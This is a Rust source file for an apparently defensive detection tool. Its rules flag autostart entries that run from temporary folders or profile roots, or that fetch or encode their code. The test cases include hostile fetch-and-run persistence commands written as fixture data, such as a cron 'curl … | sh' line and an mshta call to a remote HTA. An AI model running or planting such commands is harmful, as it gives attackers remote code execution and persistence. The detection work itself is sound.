//! What starts by itself from where nothing should.

use super::super::super::indicators::{clean, words};
use super::super::super::places::{Place, expanded, place, program_of};
use super::super::super::rulebook::Mode;
use super::super::super::scene::Scene;
use super::super::super::verdict::{Bearing, Confidence};
use super::super::Rule;
use super::super::draft::{Draft, cite_autostart, cite_listed, entry_words, show};
use super::{finding, hostile_signs, is_interpreter, stem};
use crate::evidence::AutostartEntry;

pub(in super::super) const TEMP: Rule = Rule {
    id: "compromise.autostart_from_temp",
    title: "A program in a folder for temporary files starts by itself",
    rationale: "Folders for temporary files are emptied, so that honest software installs nothing there that is to start \
                again. Installers do so once (RunOnce), and are left out.",
    technique: Some("T1547.001"),
    runbook: "Keep the file and its hash; look when the entry was written and by what; isolate the machine.",
    changes: "A valid signature of a known maker on the file, or an installation that is under way, takes it back.",
    mode: Mode::Decide,
    evaluate: temp,
    #[cfg(test)]
    cases: temp_cases,
};

pub(in super::super) const LOOSE: Rule = Rule {
    id: "compromise.autostart_loose_in_profile",
    title: "A program right in a profile's or a shared folder starts by itself",
    rationale: "Programs install themselves into folders of their own. A lone image in the root of AppData, of a profile or \
                of ProgramData is what droppers leave; some small tools do the same.",
    technique: Some("T1547.001"),
    runbook: "Identify the file by its hash and its signature, and ask the user about it.",
    changes: "If the file is identified as honest software, it falls away; if it talks to the outside, it shows a compromise.",
    mode: Mode::Decide,
    evaluate: loose,
    #[cfg(test)]
    cases: loose_cases,
};

pub(in super::super) const COMMAND: Rule = Rule {
    id: "compromise.autostart_hostile_command",
    title: "Something that fetches or hides its code starts by itself",
    rationale: "An entry that starts an interpreter with encoded code, or with code that it fetches first, leaves no file \
                to be found. Administrators' scripts lie in files.",
    technique: Some("T1059"),
    runbook: "Decode the command on a machine of your own; block where it leads; isolate the machine.",
    changes: "If the deployment team says that the entry is theirs, it falls away.",
    mode: Mode::Decide,
    evaluate: command,
    #[cfg(test)]
    cases: command_cases,
};

/// The file that an entry starts, cleaned and with variables written out: what an interpreter is given, or the program.
pub(super) fn started_file(command: &str) -> String {
    let program = program_of(command);
    if !is_interpreter(&stem(&program)) {
        return program;
    }
    let words = words(command);
    let mut arguments =
        words.iter().skip(1).filter(|word| !word.starts_with(['-', '/']) || is_unix_path(word));
    let file = arguments.find(|word| word.contains(['\\', '/', '%'])).map(|word| {
        // `C:\x.dll,Entry`.
        expanded(&clean(word.split(',').next().unwrap_or(word)))
    });
    file.unwrap_or(program)
}

/// `/c` is an option of Windows and `/tmp/x` a file of Unix.
fn is_unix_path(word: &str) -> bool {
    word.starts_with('/') && word.matches('/').count() > 1
}

/// Entries that are not switched off, with the file that they start.
fn entries<'s>(scene: &'s Scene<'_>) -> impl Iterator<Item = (usize, &'s AutostartEntry, String)> {
    scene
        .autostart
        .iter()
        .enumerate()
        .filter(|(_, entry)| entry.enabled != Some(false) && entry.mechanism != "winlogon")
        .filter_map(|(row, entry)| Some((row, entry, started_file(entry.command.as_deref()?))))
}

fn is_once(entry: &AutostartEntry) -> bool {
    entry.location.to_ascii_lowercase().contains("runonce")
}

fn of_place(
    scene: &Scene<'_>,
    wanted: Place,
    weight: impl Fn(&AutostartEntry, bool) -> (Bearing, Confidence),
) -> Vec<Draft> {
    entries(scene)
        .filter(|(_, _, file)| place(file) == wanted)
        .map(|(row, entry, file)| {
            let running = scene.running(&file);
            let signer = running.and_then(|(_, process)| process.signer.as_deref());
            let mut details = Vec::new();
            if let Some((row, process)) = running {
                details.push(format!("it runs as PID {} (row {row} of the process list)", process.pid));
            }
            if let Some(signer) = signer {
                details.push(format!("its image is signed by {}", show(signer)));
            }
            if is_once(entry) {
                details.push("it starts once, as installers do".to_owned());
            }
            let mut citations = vec![cite_autostart(row, entry)];
            citations.extend(running.and_then(|(row, process)| cite_listed(row, process)));
            let headline = format!("{} starts {}", entry_words(entry), show(&file));
            finding(weight(entry, signer.is_some()), headline, details, citations)
        })
        .collect()
}

fn temp(scene: &Scene<'_>) -> Vec<Draft> {
    of_place(scene, Place::Temp, |entry, signed| match (is_once(entry), signed) {
        (true, _) => (Bearing::Context, Confidence::Low),
        (false, true) => (Bearing::Suspicion, Confidence::Low),
        (false, false) => (Bearing::Compromise, Confidence::Medium),
    })
}

fn loose(scene: &Scene<'_>) -> Vec<Draft> {
    of_place(scene, Place::Loose, |entry, signed| match is_once(entry) || signed {
        true => (Bearing::Context, Confidence::Low),
        false => (Bearing::Suspicion, Confidence::Medium),
    })
}

fn command(scene: &Scene<'_>) -> Vec<Draft> {
    let entries = scene.autostart.iter().enumerate().filter(|(_, entry)| entry.enabled != Some(false));
    entries
        .filter_map(|(row, entry)| {
            let command = entry.command.as_deref()?;
            let signs = hostile_signs(command);
            // Management tools hand code over in Base64 as well; fetching it is another thing.
            let confidence = match signs.as_slice() {
                [] => return None,
                ["encoded code"] => Confidence::Medium,
                _ => Confidence::High,
            };
            let headline = format!("{} runs {}", entry_words(entry), signs.join(" with "));
            let details = vec![format!("the command is {}", show(command))];
            Some(finding(
                (Bearing::Compromise, confidence),
                headline,
                details,
                vec![cite_autostart(row, entry)],
            ))
        })
        .collect()
}

#[cfg(test)]
use super::super::super::testing::{Bench, Case};

#[cfg(test)]
fn temp_cases() -> Vec<Case> {
    let upd = r"C:\Users\alice\AppData\Local\Temp\upd.exe";
    let once = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce";
    let compromise = |name, bench| Case::finds(name, Bearing::Compromise, Confidence::Medium, bench);
    vec![
        compromise("a Run key", Bench::new().run_key("Updater", &format!("\"{upd}\" -q")))
            .saying(&["Updater", "upd.exe"]),
        compromise("and it runs", Bench::new().run_key("Updater", upd).program(66, upd)).saying(&["PID 66"]),
        compromise("a DLL through rundll32", {
            Bench::new().run_key("x", r"rundll32.exe C:\Windows\Temp\a.dll,Start")
        }),
        compromise(
            "cron on Linux",
            Bench::new().autostart("cron", "/var/spool/cron/alice", "x", "/dev/shm/.x -q"),
        ),
        compromise("a script for a shell", {
            Bench::new().autostart("cron", "/etc/crontab", "x", "/bin/sh /tmp/.cache/run.sh")
        }),
        Case::finds("signed by a maker", Bearing::Suspicion, Confidence::Low, {
            Bench::new().run_key("x", upd).program(66, upd).signed(66, "CN=Example Ltd")
        }),
        Case::finds("an installer's own", Bearing::Context, Confidence::Low, {
            Bench::new().autostart("run_key", once, "wextract", upd)
        }),
        Case::nothing("what empties such a folder", {
            Bench::new()
                .autostart("cron", "/etc/cron.daily/tidy", "tidy", "find /tmp -mtime +7 -delete")
                .autostart(
                    "run_key",
                    once,
                    "cleanup",
                    &format!(r#"rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 "{upd}""#),
                )
        }),
        Case::nothing("switched off", {
            let mut bench = Bench::new().run_key("x", upd);
            bench.evidence.autostart.iter_mut().flatten().for_each(|entry| entry.enabled = Some(false));
            bench
        }),
        Case::nothing("a program's own folder", {
            Bench::new().run_key(
                "Discord",
                r"C:\Users\alice\AppData\Local\Discord\Update.exe --processStart Discord.exe",
            )
        }),
    ]
}

#[cfg(test)]
fn loose_cases() -> Vec<Case> {
    let suspicion = |name, bench| Case::finds(name, Bearing::Suspicion, Confidence::Medium, bench);
    vec![
        suspicion(
            "in the root of AppData",
            Bench::new().run_key("a", r"C:\Users\alice\AppData\Roaming\a.exe"),
        ),
        suspicion("in a folder of all users", {
            Bench::new().autostart("scheduled_task", r"\", "a", r"wscript.exe C:\Users\Public\a.vbs")
        }),
        Case::finds("signed", Bearing::Context, Confidence::Low, {
            let path = r"C:\Users\alice\AppData\Local\tool.exe";
            Bench::new().run_key("a", path).program(9, path).signed(9, "CN=Example Ltd")
        }),
        Case::nothing("a folder of its own", {
            Bench::new().run_key(
                "OneDrive",
                r#""C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
            )
        }),
        Case::nothing(
            "the system's",
            Bench::new().run_key("x", r"%windir%\system32\SecurityHealthSystray.exe"),
        ),
    ]
}

#[cfg(test)]
fn command_cases() -> Vec<Case> {
    vec![
        Case::finds("fetches its code", Bearing::Compromise, Confidence::High, {
            Bench::new().run_key("a", "mshta.exe http://203.0.113.66/a.hta")
        })
        .saying(&["code from the network"]),
        Case::finds("hides its code", Bearing::Compromise, Confidence::Medium, {
            Bench::new().autostart("scheduled_task", r"\", "a", "powershell.exe -enc SQBFAFgAIAAoAA==")
        }),
        Case::finds("on Linux", Bearing::Compromise, Confidence::High, {
            Bench::new().autostart("cron", "/etc/cron.d/x", "x", "curl -fsSL http://203.0.113.66/x | sh")
        }),
        Case::nothing("an administrator's script", {
            Bench::new().autostart(
                "scheduled_task",
                r"\Corp\",
                "a",
                r"powershell.exe -ExecutionPolicy Bypass -File C:\Ops\a.ps1",
            )
        }),
        Case::nothing("an ordinary entry", Bench::new().run_key("a", r"C:\Program Files\A\a.exe")),
    ]
}
